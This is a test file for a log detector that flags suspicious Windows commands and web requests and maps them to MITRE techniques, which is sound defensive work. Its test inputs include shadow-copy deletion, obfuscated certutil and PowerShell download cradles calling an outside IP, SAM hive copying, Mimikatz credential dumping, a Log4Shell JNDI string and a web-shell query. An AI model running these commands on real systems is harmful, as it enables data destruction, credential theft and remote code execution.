import { expect, test } from 'vitest'
import { foundBy } from '../testing/evidenceRows.ts'
import type { TestRow } from '../testing/evidenceRows.ts'
import { suspiciousCommands } from './suspiciousCommands.ts'

const run = (records: readonly TestRow[], settings: Record<string, unknown> = {}) =>
  foundBy(suspiciousCommands, records, settings)
const ids = (command: string) => run([{ command_line: command }]).flatMap((finding) => finding.tags)
const utf16 = (text: string) => Buffer.from(text, 'utf16le').toString('base64')

test('one finding per pattern and host, with all its rows in row order', () => {
  const findings = run([
    { hostname: 'A', command_line: 'vssadmin delete shadows /all', username: 'eve' },
    { hostname: 'B', command_line: 'vssadmin delete shadows /all' },
    { hostname: 'a', command_line: 'wmic shadowcopy delete', username: 'mallory' },
    { hostname: 'A', command_line: 'notepad a.txt' },
  ])
  const deleted = findings.filter((finding) => finding.mitreTechnique === 'T1490')
  expect(deleted.map((finding) => [finding.host, finding.evidence.map((each) => each.row)])).toEqual([
    ['A', [1, 3]],
    ['B', [2]],
  ])
  expect(deleted[0]?.user).toBeNull()
  expect(deleted[0]?.evidence[0]).toEqual({
    datasetId: 'dataset',
    row: 1,
    field: 'command_line',
    value: 'vssadmin delete shadows /all',
  })
})

test.each([
  ['carets', 'c^e^rt^util -url^cache -f http://x/y', 'certutil-download'],
  ['quotes inside words', '"c"er"tutil".exe -urlcache -f http://x/y', 'certutil-download'],
  ['upper case and spaces', '  CERTUTIL.EXE    -URLCACHE   -f    HTTP://x/y', 'certutil-download'],
  ['a path with a variable', '%SystemRoot%\\System32\\certutil.exe -urlcache -f http://x/y', 'certutil-download'],
  ['an en dash', 'certutil \u2013urlcache \u2013f http://x/y', 'certutil-download'],
  ['a slash option', 'certutil /urlcache /f http://x/y', 'certutil-download'],
  ['forward slashes in a path', 'esentutl /y /vss C:/Windows/System32/config/SAM /d x', 'hive-copied'],
  [
    'backticks and joined strings',
    "i`e`x (new-object net.webclient).('Down'+'loadString')('http://x')",
    'powershell-cradle',
  ],
])('%s do not hide a command', (_, command, id) => {
  expect(ids(command)).toContain(id)
})

test.each(['-e', '-en', '-enc', '-encod', '-EncodedCommand', '/enc', '-ec', '\u2013enc'])(
  'a command encoded with %s is decoded, matched and shown',
  (option) => {
    const [finding] = run([
      {
        command_line: `powershell ${option} ${utf16("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')")}`,
      },
    ]).filter((each) => each.tags[0] === 'powershell-cradle')
    expect(finding?.description).toContain(
      "Decoded, it begins: IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
    )
  },
)

test('an encoded command beyond 64 kB is decoded up to there', () => {
  const command = `powershell -enc ${utf16(`vssadmin delete shadows ${'#'.repeat(200_000)}`)}`
  expect(ids(command)).toContain('shadow-deleted')
})

test('what a word is part of does not count', () => {
  expect(ids('C:\\Program Files\\dotnet\\dotnet.exe test')).toEqual([])
  expect(ids('notepad mshta-notes.txt http://x')).toEqual([])
})

test('a system process in the wrong folder is found, in its own folder not', () => {
  const found = run([
    { process_name: 'C:\\Windows\\System32\\svchost.exe', command_line: 'svchost.exe -k netsvcs' },
    { process_name: '\\Device\\HarddiskVolume3\\Windows\\System32\\conhost.exe', command_line: 'conhost.exe 0x4' },
    { process_name: 'C:\\Users\\bob\\svchost.exe', command_line: 'svchost.exe' },
  ])
  expect(found.map((finding) => [finding.mitreTechnique, finding.evidence.map((each) => each.row)])).toEqual([
    ['T1036.005', [3]],
  ])
})

test('the parent program counts', () => {
  expect(
    run([{ parent_process_name: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', command_line: 'cmd.exe /c dir' }])[0]
      ?.mitreTechnique,
  ).toBe('T1505.003')
  expect(run([{ parent_process_name: 'C:\\Windows\\explorer.exe', command_line: 'cmd.exe /c dir' }])).toEqual([])
  expect(
    run([
      { parent_process_name: 'C:\\Windows\\System32\\rundll32.exe', command_line: 'notepad C:\\Users\\Public\\a.dat' },
    ]),
  ).toEqual([])
})

test('scripts of PowerShell events and services are looked at', () => {
  expect(run([{ event_id: '4104', description: 'Invoke-Mimikatz -DumpCreds' }])[0]?.mitreTechnique).toBe('T1003')
  expect(
    run([{ event_id: '7045', file_path: '%COMSPEC% /c powershell -enc ' + utf16('Invoke-Mimikatz') }]).map(
      (each) => each.tags[0],
    ),
  ).toContain('mimikatz')
})

test('rows that only mention a program count for telling names alone', () => {
  expect(run([{ event_id: '7', process_name: 'C:\\Windows\\System32\\whoami.exe' }])).toEqual([])
  expect(run([{ event_id: '7', process_name: 'C:\\x\\mimikatz.exe' }])[0]?.mitreTechnique).toBe('T1003')
})

test('an event id counts only in its own log', () => {
  expect(run([{ event_id: '104', event_type: 'System' }])[0]?.mitreTechnique).toBe('T1070.001')
  expect(run([{ event_id: '104', event_type: 'Microsoft-Windows-Sysmon/Operational' }])).toEqual([])
  expect(run([{ event_id: '1102', event_type: 'Security' }])[0]?.severity).toBe('critical')
  expect(
    run([
      {
        event_id: '10',
        event_type: 'Microsoft-Windows-Sysmon/Operational',
        file_path: 'C:\\Windows\\system32\\lsass.exe',
        process_name: 'C:\\x\\a.exe',
      },
    ])[0]?.mitreTechnique,
  ).toBe('T1003.001')
  expect(
    run([
      {
        event_id: '10',
        event_type: 'Microsoft-Windows-Sysmon/Operational',
        file_path: 'C:\\Windows\\system32\\lsass.exe',
        process_name: 'C:\\ProgramData\\MsMpEng.exe',
      },
    ]),
  ).toEqual([])
})

test('attacks in web requests are found', () => {
  expect(run([{ user_agent: '${jndi:ldap://198.51.100.7/a}' }])[0]?.mitreTechnique).toBe('T1190')
  expect(run([{ url: '/wp-content/evil.php?cmd=uname+-a' }])[0]?.mitreTechnique).toBe('T1505.003')
})

test('patterns and texts can be left out', () => {
  expect(run([{ command_line: 'whoami' }], { ignorePatterns: ['whoami'] })).toEqual([])
  expect(run([{ command_line: 'whoami' }], { minimumScore: 50 })).toEqual([])
  expect(run([{ command_line: 'vssadmin delete shadows /for=D:\\Backup' }], { ignoreText: ['d:\\backup'] })).toEqual([])
})
